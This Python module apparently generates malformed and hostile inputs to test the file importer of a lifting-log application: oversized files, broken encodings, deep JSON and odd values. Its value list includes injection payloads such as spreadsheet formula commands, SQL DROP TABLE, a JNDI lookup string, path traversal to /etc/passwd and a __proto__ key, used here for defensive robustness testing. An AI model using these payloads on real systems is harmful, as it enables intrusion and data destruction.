"""Text that means no good: values, quotes, encodings, lengths and JSON that break readers."""

import json
from collections.abc import Callable
from random import Random

from steelyard.exchange.bounds import MOST_BYTES, MOST_ROWS

from .originals import HEADER, originals

Made = tuple[str, bytes]
VALUES = (
    *("nan", "NaN", "inf", "-Infinity", "1e999", "-1e999", "1e-999", "9" * 400, "-" + "9" * 5000, "0x7f", "1_000"),
    *("1900-01-00", "1900-02-29", "2100-02-29", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "31.02.2026"),
    *("=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/","x")', "+1+1", "\t=1+1"),
    *("'; DROP TABLE entry; --", "{{7*7}}", "${jndi:ldap://x.invalid/a}", "%s%n%x", "../../etc/passwd", "<b>1</b>"),
    *("\u202e\u0627\u0644", "\u200b\u200b", "\ufeff", "e" + "\u0301" * 500, "\U0001f4aa" * 300, "\u0663", "½"),
    *("\ufffd", "\x1b[2J", "\x08\x08", "", " ", '"', '""', '"""', "''", "\\", "\\N", "NULL", "null", "true", "#REF!"),
    *("0", "-0", "00:00", "24:61"),
)  # fmt: skip
SEPARATORS = (",", ";", "\t", "|")


def odd_values(rng: Random) -> Made:
    """A table of values that no lifter writes."""
    separator = rng.choice(SEPARATORS)
    rows = [HEADER, *([rng.choice(VALUES) for _ in HEADER] for _ in range(rng.randrange(1, 200)))]
    return "csv", "\n".join(separator.join(row) for row in rows).encode()


def planted_values(rng: Random) -> Made:
    """An honest table with some such values in it."""
    lines = originals()["commas"].content.decode().splitlines()
    for _ in range(rng.randrange(1, 30)):
        n = rng.randrange(len(lines))
        cells = lines[n].split(",")
        cells[rng.randrange(len(cells))] = rng.choice(VALUES)
        lines[n] = ",".join(cells)
    return "csv", "\n".join(lines).encode()


def a_million_columns(rng: Random) -> Made:
    """One row, or a few, of a million cells."""
    row = rng.choice(SEPARATORS).join(rng.choice(("", "1", '"1"', "ab")) for _ in range(1_000_000))
    return "csv", (row + "\n").encode() * rng.randrange(1, 4)


def many_columns(rng: Random) -> Made:
    """Rows of some thousand cells, most of them empty."""
    row = [""] * rng.randrange(1_500, 20_000)
    row[rng.randrange(len(row))] = "1"
    return "csv", (rng.choice(SEPARATORS).join(row) + "\n").encode() * rng.randrange(1, 400)


def endless_quotes(rng: Random) -> Made:
    """Quotes that open and never close, close twice, or stand everywhere."""
    lines = originals()[rng.choice(("commas", "semicolons"))].content.decode("cp1252").splitlines()
    match rng.randrange(5):
        case 0:
            lines[rng.randrange(len(lines))] += ',"'
        case 1:
            lines = [line.replace(",", ',"', 1).replace(";", ';"', 1) for line in lines] * rng.randrange(1, 200)
        case 2:
            lines = ['"' + "x" * rng.randrange(1, 300_000)] * rng.randrange(1, 20)
        case 3:
            lines = ['"' * rng.randrange(1, 200_000) for _ in range(rng.randrange(1, 10))]
        case _:
            lines = ['"' + ",\n" * rng.randrange(1, 100_000), *lines]
    return "csv", "\n".join(lines).encode()


def endless_lines(rng: Random) -> Made:
    """No line ends, or nothing but line ends."""
    unit = rng.choice(
        (b"x", b"squat 5x5 100 ", b"\n", b"\r", b"\r\n", b" \n", b",", b",\n", b'"', b'"\n', b"{", b"[", b"{}\n", b"-")
    )
    return rng.choice(("csv", "txt", "json")), unit * (rng.choice((1_000, 300_000, 6_000_000)) // len(unit))


def many_rows(rng: Random) -> Made:
    """More rows than anybody has lifted."""
    row = rng.choice((b"2026-01-05,squat,100,5\n", b"1;2\n", b"squat 3x8\n", b"a  b  c\n"))
    return "csv", row * rng.choice((199_999, 200_001, 600_000))


def mixed_encodings(rng: Random) -> Made:
    """Pieces of the same text in several encodings, one after the other."""
    text = originals()["commas"].content.decode()
    codecs = ("utf-8", "cp1252", "cp850", "utf-16-le", "utf-16-be", "utf-32-le", "mac_roman", "utf-7", "shift_jis")
    pieces = [text.encode(rng.choice(codecs), "replace") for _ in range(rng.randrange(1, 4))]
    return "csv", b"".join(piece[: rng.randrange(1, len(piece))] if rng.random() < 0.4 else piece for piece in pieces)


def lying_marks(rng: Random) -> Made:
    """A byte order mark that does not tell the truth."""
    mark = rng.choice((b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\0\0", b"\0\0\xfe\xff", b"+/v8"))
    name = rng.choice(("commas", "semicolons", "tabs", "json lines", "free lines", "xlsx"))
    return originals()[name].suffix, mark * rng.randrange(1, 3) + originals()[name].content


def broken_characters(rng: Random) -> Made:
    """Half pairs, overlong forms and bytes that no encoding has."""
    content = bytearray(originals()[rng.choice(("commas", "tabs", "json lines"))].content)
    broken = (
        b"\xed\xa0\x80",
        b"\xc0\xaf",
        b"\xf8\x88\x80\x80\x80",
        b"\x00\xd8",
        b"\xd8\x00",
        b"\x81",
        b"\xff",
        b"\x00",
    )
    for _ in range(rng.randrange(1, 20)):
        place = rng.randrange(len(content))
        content[place:place] = rng.choice(broken)
    return "csv", bytes(content)


def odd_columns(rng: Random) -> Made:
    """Columns of blanks that nearly line up."""
    lines = originals()["columns"].content.decode().splitlines() * rng.randrange(1, 30)
    for n in range(len(lines)):
        if rng.random() < 0.3:
            place = rng.randrange(len(lines[n]))
            lines[n] = lines[n][:place] + rng.choice((" ", "  ", "\t", "xxxxx", " " * 900)) + lines[n][place:]
    return "txt", "\n".join(lines).encode()


def deep_json(rng: Random) -> Made:
    """Lists in objects in lists."""
    depth = rng.choice((50, 900, 1_100, 100_000, 400_000))
    inner = rng.choice(("[", '{"a":'))
    closing = "]" if inner == "[" else "}"
    body = inner * depth + "1" * (inner != "[") + closing * rng.choice((depth, depth - 1, 0))
    return rng.choice((("jsonl", f'{{"a":{body}}}\n'.encode()), ("json", f'[{{"a":{body}}}]'.encode())))


def odd_json(rng: Random) -> Made:
    """JSON with numbers, names and texts that break readers."""
    values = (
        *("NaN", "-Infinity", "1e999", "-1e-999", "9" * 300, "9" * 100_000, "0." + "1" * 50_000, "01", "0x1", "1_0"),
        *('"\\ud800"', '"\\udfff\\ud800"', '"\\u0000"', '"\\x"', '"', "{", "[]", "{}", "null", "true", "'a'"),
        f'"{"a" * 20_000}"',
    )  # fmt: skip
    names = ('"date"', '"date"', '""', '"\\ud800"', '"a b"', "date", "1", "null", '"__proto__"')
    some_names, some_values = rng.sample(names, rng.randrange(1, 4)), rng.sample(values, rng.randrange(1, 4))
    fields = [f"{rng.choice(some_names)}:{rng.choice(some_values)}" for _ in range(rng.randrange(1, 60))]
    objects = [f"{{{field}}}" for field in fields]
    is_list = rng.random() < 0.5
    return ("json", f"[{','.join(objects)}]".encode()) if is_list else ("jsonl", "\n".join(objects).encode())


def many_names(rng: Random) -> Made:
    """Objects that each have names of their own."""
    count = rng.choice((1_900, 2_100, 60_000))
    lines = [json.dumps({f"name {n}": 1}) for n in range(count)]
    lines += [json.dumps({f"name {count - 1}": 1})] * rng.choice((0, 20_000))
    return "jsonl", "\n".join(lines).encode()


def long_cells(rng: Random) -> Made:
    """Cells far longer than a note."""
    length = rng.choice((9_999, 10_001, 131_073, 999_000, 3_000_000))
    cell = rng.choice(("x", "ü", "\U0001f4aa", '""', " ", "\n"))
    return "csv", ("date,note\n" + '2026-01-05,"' + cell * (length // len(cell)) + '"\n').encode() * rng.randrange(1, 4)


def as_large_as_may_be(rng: Random) -> Made:
    """Just below the bounds of a file, in the way that costs the most."""
    size, rows = MOST_BYTES - 2**20, MOST_ROWS - 10
    each = size // rows
    objects = json.dumps({f"k{n}": [n, {"a": 1}] for n in range(each // 22)})
    numbers = json.dumps({f"k{n}": n + 0.5 for n in range(each // 14)})
    made: dict[str, Callable[[], Made]] = {
        "cells": lambda: ("csv", ("12345," * (each // 6 - 1) + "1\n").encode() * rows),
        "quoted": lambda: ("csv", ('"123456",' * (each // 9 - 1) + '"1"\n').encode() * rows),
        "empty cells": lambda: ("csv", (b";" * 1_999 + b"1\n") * (size // 2_001)),
        "wide characters": lambda: ("csv", ("é;ü;\U0001f4aa;" * (each // 11) + "\n").encode() * rows),
        "UTF-16": lambda: ("tsv", b"\xff\xfe" + ("squat\t" * (each // 12 - 1) + "\n").encode("utf-16-le") * rows),
        "Windows-1252": lambda: ("txt", ("über " * (each // 5 - 1) + "\n").encode("cp1252") * rows),
        "JSON lines": lambda: ("jsonl", f"{objects}\n".encode() * rows),
        "JSON list": lambda: ("json", ("[" + f"{numbers}," * (rows - 1) + numbers + "]").encode()),
    }
    return made[rng.choice(sorted(made))]()


TEXT_KINDS: dict[str, Callable[[Random], Made]] = {
    "odd values": odd_values,
    "odd values in an honest table": planted_values,
    "a million columns": a_million_columns,
    "many columns": many_columns,
    "endless quotes": endless_quotes,
    "endless lines": endless_lines,
    "very many rows": many_rows,
    "mixed encodings": mixed_encodings,
    "lying byte order mark": lying_marks,
    "broken characters": broken_characters,
    "columns out of line": odd_columns,
    "deep JSON": deep_json,
    "odd JSON": odd_json,
    "very many names in JSON": many_names,
    "very long cells": long_cells,
    "as large as may be": as_large_as_may_be,
}
